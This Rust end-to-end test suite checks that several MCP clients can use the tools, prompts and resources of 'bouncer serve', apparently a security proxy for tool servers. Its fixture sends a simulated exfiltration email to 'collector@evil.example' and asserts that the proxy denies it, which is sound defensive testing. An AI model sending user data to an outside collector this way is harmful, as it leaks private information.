//! Real clients of both eras list and use every tool, prompt and resource of `bouncer serve`: the Python SDK 1.x and 2.x,
//! FastMCP, and the Inspector's command line.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use bouncer_e2e::{Client, bouncer, npm_script, python, repository_root};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

const TOOLS: [&str; 4] = [
    "bouncer_audit_summary",
    "bouncer_check_verdict",
    "bouncer_get_active_policies",
    "bouncer_verify_policy",
];
const PROMPTS: [&str; 2] = ["generate_bouncer_policy", "review_mcp_security"];
const RESOURCES: [&str; 2] = ["bouncer://audit/summary", "bouncer://policies/builtin"];
const TEMPLATES: [&str; 2] = ["bouncer://pins/{server}", "bouncer://policies/{pack}"];

/// A home in which a mail server has run behind the proxy: its tools are pinned, and its calls are in the log.
fn home() -> tempfile::TempDir {
    let home = tempfile::tempdir().unwrap();
    let mut command = Command::new(bouncer());
    command.args(["run", "--upstream-name", "mail", "--"]).arg(python("mcp1"));
    command.arg(repository_root().join("tests/e2e/servers/mail.py"));
    command.env("OUTBOX", home.path().join("outbox")).env("BOUNCER_HOME", home.path());
    let mut client = Client::spawn(&mut command);
    client.initialize("2025-11-25");
    client.call("read_inbox", json!({}));
    client.call("send_email", json!({"to": ["collector@evil.example"], "subject": "s", "body": "b"}));
    client.close();
    home
}

fn check(report: &Value) {
    assert_eq!(report["tools"], json!(TOOLS));
    assert_eq!(report["prompts"], json!(PROMPTS));
    assert_eq!(report["resources"], json!(RESOURCES));
    assert_eq!(report["templates"], json!(TEMPLATES));
    let results = &report["results"];
    assert_eq!(results["bouncer_check_verdict"]["verdict"], "deny");
    assert_eq!(results["bouncer_check_verdict"]["contract"], "sink_gate");
    assert_eq!(results["bouncer_verify_policy"]["errors"][0]["line"], 2);
    assert_eq!(results["bouncer_get_active_policies"]["packs"][0]["name"], "gmail");
    let summary = &results["bouncer_audit_summary"];
    assert_eq!(summary["counts"]["verdicts"], json!({"allow": 1, "deny": 1}));
    assert!(!summary.to_string().contains("evil.example"), "no argument's value: {summary}");
    assert_eq!(&report["reads"]["bouncer://audit/summary"]["counts"], &summary["counts"]);
    assert!(report["reads"]["bouncer://policies/builtin"].as_array().unwrap().len() >= 17);
    assert_eq!(report["reads"]["bouncer://policies/gmail"]["name"], "gmail");
    let pinned = &report["reads"]["bouncer://pins/mail"]["tools"];
    let names: BTreeSet<&str> =
        pinned.as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap()).collect();
    assert_eq!(names, BTreeSet::from(["list_contacts", "read_inbox", "send_email"]));
    for prompt in PROMPTS {
        let text = report["texts"][prompt].as_str().unwrap();
        assert!(text.contains("<<<untrusted ") && text.contains("send_email"), "{text}");
    }
    assert_eq!(report["levels"], json!(["standard", "strict"]));
    assert_eq!(report["servers"], json!(["mail"]));
}

fn with_python(environment: &str, client: &str, version: Option<&str>) {
    let home = home();
    let out = Command::new(python(environment))
        .arg(repository_root().join("tests/e2e/clients/ask_serve.py"))
        .arg(client)
        .arg(bouncer_in(home.path()))
        .arg("serve")
        .output()
        .unwrap();
    assert!(out.status.success(), "{client}: {}", String::from_utf8_lossy(&out.stderr));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    if let Some(version) = version {
        assert_eq!(report["version"], version, "{client}");
    }
    check(&report);
}

/// SDKs start servers with an environment of their own choice: a script that sets Bouncer's folder.
fn bouncer_in(home: &Path) -> std::path::PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let script = home.join("bouncer-here");
    let text =
        format!("#!/bin/sh\nBOUNCER_HOME='{}' exec '{}' \"$@\"\n", home.display(), bouncer().display());
    std::fs::write(&script, text).unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    script
}

#[test]
fn the_python_sdk_1() {
    with_python("mcp1", "sdk1", Some("2025-11-25"));
}

#[test]
fn the_python_sdk_2_in_both_eras() {
    with_python("mcp2", "sdk2-legacy", Some("2025-11-25"));
    with_python("mcp2", "sdk2-modern", Some("2026-07-28"));
}

#[test]
fn fastmcp_in_both_eras() {
    with_python("mcp2", "fastmcp-legacy", None);
    with_python("mcp2", "fastmcp-modern", None);
}

#[test]
fn the_inspector_in_the_legacy_era() {
    with_inspector("legacy");
}

#[test]
fn the_inspector_in_the_modern_era() {
    with_inspector("modern");
}

fn with_inspector(era: &str) {
    let home = home();
    let script = bouncer_in(home.path());
    let inspector = npm_script("@modelcontextprotocol/inspector/clients/launcher/build/index.js");
    let ask = |args: &[&str]| -> Value {
        let out = Command::new("node")
            .arg(&inspector)
            .args(["--cli", "--protocol-era", era, "--format", "json", "--quiet"])
            .args(args)
            .arg("--")
            .arg(&script)
            .arg("serve")
            .env("HOME", home.path())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{era} {args:?}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        let answer: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)));
        answer.get("result").cloned().unwrap_or(answer)
    };
    let names = |list: &Value, key: &str| -> BTreeSet<String> {
        list.as_array().unwrap().iter().map(|item| item[key].as_str().unwrap().to_owned()).collect()
    };
    let set = |names: &[&str]| -> BTreeSet<String> { names.iter().map(|name| (*name).to_owned()).collect() };
    // `--strict` fails where a schema is not portable between models.
    let listed = ask(&["--method", "tools/list", "--strict"]);
    assert_eq!(names(&listed["tools"], "name"), set(&TOOLS));
    for (tool, arguments) in [
        (
            "bouncer_check_verdict",
            json!({"tool": "send_email", "server": "mail", "args": {"to": ["a@x.example"]}}),
        ),
        ("bouncer_verify_policy", json!({"policy": "[tools.t]\nmax_calls = 1\n"})),
        ("bouncer_get_active_policies", json!({})),
        ("bouncer_audit_summary", json!({"limit": 1})),
    ] {
        let arguments = arguments.to_string();
        let result = ask(&["--method", "tools/call", "--tool-name", tool, "--tool-args-json", &arguments]);
        assert_ne!(result["isError"], json!(true), "{result}");
        assert!(result["structuredContent"].is_object(), "{result}");
    }
    assert_eq!(names(&ask(&["--method", "prompts/list"])["prompts"], "name"), set(&PROMPTS));
    for prompt in PROMPTS {
        let mut args =
            vec!["--method", "prompts/get", "--prompt-name", prompt, "--prompt-args", "server_name=mail"];
        if prompt == "generate_bouncer_policy" {
            args.push("risk_level=strict");
        }
        assert!(ask(&args)["messages"][0]["content"]["text"].as_str().unwrap().contains("send_email"));
    }
    let listed = ask(&["--method", "resources/list"]);
    assert_eq!(names(&listed["resources"], "uri"), set(&RESOURCES));
    let listed = ask(&["--method", "resources/templates/list"]);
    assert_eq!(names(&listed["resourceTemplates"], "uriTemplate"), set(&TEMPLATES));
    for uri in RESOURCES.iter().chain(&["bouncer://pins/mail", "bouncer://policies/slack"]) {
        let read = ask(&["--method", "resources/read", "--uri", uri]);
        assert_eq!(read["contents"][0]["mimeType"], "application/json", "{uri}: {read}");
    }
}
